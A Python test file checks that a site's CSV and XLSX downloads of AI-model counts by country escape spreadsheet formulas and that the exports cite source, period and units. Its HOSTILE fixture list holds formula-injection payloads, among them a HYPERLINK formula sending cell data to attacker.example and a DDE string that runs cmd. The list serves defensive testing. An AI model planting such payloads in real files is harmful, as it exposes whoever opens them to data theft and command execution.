"""Data downloads are formula-safe: a hostile cell stays text, numbers stay numbers."""

import csv
import io

import openpyxl
import pandas as pd

from lib.charts.catalog import model_counts_chart
from lib.export.data_files import DataContext, data_bytes, formula_safe
from lib.export.images import figure_bytes, figure_with_disclosures

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "label": [*HOSTILE, "South Korea", "line one\rline two"],
            "models": [1, 2, 3, 4, 5, 6, 14, 40],
            "share_of_world_pct": [0.5, -1.25, 2.0, 3.0, 4.0, 5.0, 5.2, 14.8],
        }
    )


def test_formula_guard_on_text_only():
    assert formula_safe("=1+1") == "'=1+1"
    assert formula_safe("\t=1") == "'\t=1"
    assert formula_safe("South Korea") == "South Korea"
    assert formula_safe(-3) == -3 and formula_safe(2.5) == 2.5


def test_xlsx_has_no_formulas_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(data_bytes(hostile_frame(), "xlsx", "model-counts")))
    sheet = book["model-counts"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [cell.data_type for row in rows for cell in row if cell.data_type == "f"] == []
    labels = [row[0].value for row in rows]
    assert labels[:6] == ["'" + cell for cell in HOSTILE]
    assert labels[6] == "South Korea"
    assert [row[1].value for row in rows] == [1, 2, 3, 4, 5, 6, 14, 40]
    assert [row[2].value for row in rows][:2] == [0.5, -1.25]
    assert all(row[1].data_type == "n" and row[2].data_type == "n" for row in rows)


def test_csv_guards_formulas_quotes_text_and_keeps_a_carriage_return_inside_its_row():
    raw = data_bytes(hostile_frame(), "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 1 + 8  # the bare CR in the last label does not split its row
    assert [row[0] for row in rows[1:7]] == ["'" + cell for cell in HOSTILE]
    assert rows[8][:3] == ["line one\rline two", "40", "14.8"]
    assert raw.splitlines()[0].startswith('"label","models","share_of_world_pct"')
    assert '"South Korea",14,5.2' in raw  # text quoted, numbers bare
    back = pd.read_csv(io.StringIO(raw))
    assert back["models"].tolist() == [1, 2, 3, 4, 5, 6, 14, 40]


def test_csv_and_xlsx_cite_source_period_and_unit(datasets, corpus):
    chart = model_counts_chart(datasets, ["South Korea", "United States"], rest_of_world=True)
    sources = {sid: source.meta for sid, source in corpus.sources.items()}
    context = DataContext(chart.title, chart.period, chart.notes, sources)
    frame = pd.read_csv(io.BytesIO(data_bytes(chart.data, "csv", context=context)))
    korea = frame[frame["country"] == "South Korea"].iloc[0]
    assert korea["source_title"].startswith("Untitled: Ha Jung-woo and Korea's 'Sovereign AI'")
    assert korea["source_publisher"] == "unknown" and korea["source_url"] == "unknown"
    assert korea["period"] == "models released 2020 to 2024"
    assert korea["unit"] == "models: models; share_of_world_pct: %"
    assert korea["models"] == 14
    book = openpyxl.load_workbook(
        io.BytesIO(data_bytes(chart.data, "xlsx", chart.chart_id, context))
    )
    assert book.sheetnames == ["model-counts-by-country", "README"]
    readme = {row[0].value: row[1].value for row in book["README"].iter_rows(min_row=2)}
    assert readme["Period"] == "models released 2020 to 2024"
    assert (
        readme["Note"]
        == "Rest of world is derived: the 271 models worldwide minus United States, South Korea."
    )
    assert readme["Source"].startswith("“Untitled: Ha Jung-woo")
    assert "Source id: 004_60a257b0d244c978." in readme["Source"]
    assert readme["Column models"] == "Number of AI models (unit: models)"
    assert readme["Column source_url"] == "URL of the source article, or unknown"
    assert "copyright stays with their publishers" in readme["Licence"]


def test_exported_image_carries_period_and_notes(datasets):
    chart = model_counts_chart(datasets, ["South Korea", "United States"], rest_of_world=True)
    figure = figure_with_disclosures(chart)
    caption = figure.layout.annotations[-1].text.replace("<br>", " ")
    assert caption.startswith("Source: Untitled: Ha Jung-woo")
    assert "Period: models released 2020 to 2024." in caption
    assert (
        "Rest of world is derived: the 271 models worldwide minus United States, South Korea."
        in caption
    )
    assert figure.layout.height > chart.figure.layout.height  # room made, nothing overprinted
    assert (
        chart.figure.layout.annotations[-1].text.count("Period") == 0
    )  # the page's copy unchanged
    svg = figure_bytes(figure, "svg").decode("utf-8")
    assert "Period: models released 2020 to 2024." in svg.replace("\u00a0", " ")
